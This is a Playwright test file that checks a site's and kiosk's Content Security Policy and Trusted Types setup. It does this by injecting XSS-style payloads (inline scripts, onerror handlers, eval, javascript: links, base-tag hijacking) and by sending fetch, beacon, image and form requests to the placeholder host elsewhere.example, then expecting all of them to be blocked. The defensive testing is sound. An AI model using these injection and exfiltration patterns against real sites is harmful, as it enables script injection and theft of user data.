// The policy of each page really stops what it should, and a whole consultation never meets it.
import { expect } from '@playwright/test';
import { open as openKiosk, test } from './kiosk.mjs';
import { consult, journey, mouse, open, unfold, words } from './player.mjs';

/** Has a page note whatever its policy forbids. */
const noteViolations = (page) => page.addInitScript(() => {
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective));
});

/**
 * Tries in the page what somebody would who got a foot in the door; the names of what went through. What a policy refuses by
 * throwing is as good as what it refuses silently.
 */
const attack = (page, foreign) => page.evaluate(async (foreign) => {
  window.through = [];
  // What a test runs is let through by the browser as long as it runs; what comes later is the page's own.
  await new Promise((resolve) => setTimeout(resolve));
  const tried = (name, act) => {
    try { act(); } catch { /* Refused. */ }
  };
  const put = (name, from, set) => {
    const element = document.createElement(name);
    set(element);
    from.append(element);
    return element;
  };
  tried('script', () => put('script', document.body, (one) => { one.textContent = 'window.through.push("an inline script")'; }));
  tried('address', () => put('script', document.body, (one) => { one.src = `${foreign}x.js`; one.onload = () => window.through.push('a foreign script'); }));
  tried('data', () => put('script', document.body, (one) => { one.src = 'data:text/javascript,window.through.push("a script of data")'; }));
  tried('handler', () => {
    const button = put('button', document.body, (one) => one.setAttribute('onclick', 'window.through.push("an inline handler")'));
    button.click();
    button.remove();
  });
  tried('html', () => { put('div', document.body, (one) => { one.innerHTML = '<img src="data:," onerror="window.through.push(\'HTML from text\')">'; }); });
  tried('write', () => { document.body.insertAdjacentHTML('beforeend', '<b id="written"></b>'); });
  tried('eval', () => { (0, eval)('window.through.push("eval")'); });
  tried('function', () => { new Function('window.through.push("a function from text")')(); });
  tried('timeout', () => { setTimeout('window.through.push("a timer from text")'); });
  tried('link', () => {
    const link = put('a', document.body, (one) => { one.href = 'javascript:window.through.push("an address that is a script")'; });
    link.click();
    link.remove();
  });
  tried('policy', () => { window.trustedTypes.createPolicy('mine', { createHTML: (text) => text }); window.through.push('a policy of trusted types'); });
  tried('frame', () => put('iframe', document.body, (one) => { one.src = 'data:text/html,<script>parent.postMessage("", "*")</script>'; }));
  window.addEventListener('message', () => window.through.push('a frame'));
  tried('base', () => put('base', document.head, (one) => { one.href = foreign; }));
  if (document.baseURI.startsWith(foreign)) window.through.push('another base');
  await fetch(`${foreign}fetched`).then(() => window.through.push('a foreign fetch'), () => {});
  tried('beacon', () => { navigator.sendBeacon(`${foreign}beacon`, 'answers'); });
  await new Promise((resolve) => put('img', document.body, (one) => {
    one.onload = () => { window.through.push('a foreign picture'); resolve(); };
    one.onerror = resolve;
    one.src = `${foreign}pixel.png`;
  }));
  tried('form', () => put('form', document.body, (one) => { one.action = `${foreign}form`; }).submit());
  await new Promise((resolve) => setTimeout(resolve, 300));
  if (document.getElementById('written')) window.through.push('HTML from text');
  return window.through;
}, foreign);

/** What a page asks of any other place than its own. */
function noteForeign(page, own) {
  const asked = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(own) && !/^(data|blob):/.test(request.url())) asked.push(request.url());
  });
  return asked;
}

const FOREIGN = 'https://elsewhere.example/';
const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** Answers whatever leaves for elsewhere, so that only the policy stands in its way; what came. */
async function answerForeign(page) {
  const reached = [];
  await page.route(`${FOREIGN}**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'image/gif', headers: { 'access-control-allow-origin': '*' }, body: pixel });
  });
  return reached;
}

test.describe('on the site', () => {
  test.use({ offline: false, hasTouch: false });

  for (const path of ['', 'programmes/', 'programmes/nariwai-restoration/', 'about/', 'gallery.html']) {
    test(`nothing that somebody slips in gets through: /${path}`, async ({ page }) => {
      const reached = await answerForeign(page);
      await noteViolations(page);
      await page.goto(path);
      await expect(page.locator('h1').first()).toBeVisible();
      expect(await attack(page, FOREIGN)).toEqual([]);
      expect(reached).toEqual([]);
      const stopped = await page.evaluate(() => [...new Set(window.violations)]);
      for (const rule of ['script-src', 'connect-src', 'img-src', 'require-trusted-types-for']) expect(stopped.some((one) => one.startsWith(rule)), `${rule} in ${stopped}`).toBe(true);
      expect(page.url()).not.toContain('elsewhere');
    });
  }

  test('a whole consultation meets no policy and asks for nothing elsewhere', async ({ page, baseURL }) => {
    await noteViolations(page);
    const asked = noteForeign(page, baseURL);
    await open(page, journey('B02'));
    await page.getByRole('button', { name: words.door_purpose }).click();
    await consult(page, journey('B02'), mouse);
    await unfold(page);
    for (const screen of ['#/handover', '#/keep', '#/coverage', '#/programmes']) {
      await page.evaluate((to) => { window.location.hash = to; }, screen);
      await expect(page.locator('h1')).toBeVisible();
    }
    await page.getByRole('button', { name: 'English' }).click();
    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
    expect(await page.evaluate(() => window.violations)).toEqual([]);
    expect(asked).toEqual([]);
  });
});

test("nothing that somebody slips into the kiosk's file gets through", async ({ page, file }) => {
  await noteViolations(page);
  await openKiosk(page, file);
  await page.clock.resume();
  const reached = await answerForeign(page);
  expect(await attack(page, FOREIGN)).toEqual([]);
  expect(reached).toEqual([]);
  const stopped = await page.evaluate(() => [...new Set(window.violations)]);
  for (const rule of ['script-src', 'connect-src', 'img-src', 'require-trusted-types-for']) expect(stopped.some((one) => one.startsWith(rule)), `${rule} in ${stopped}`).toBe(true);
});
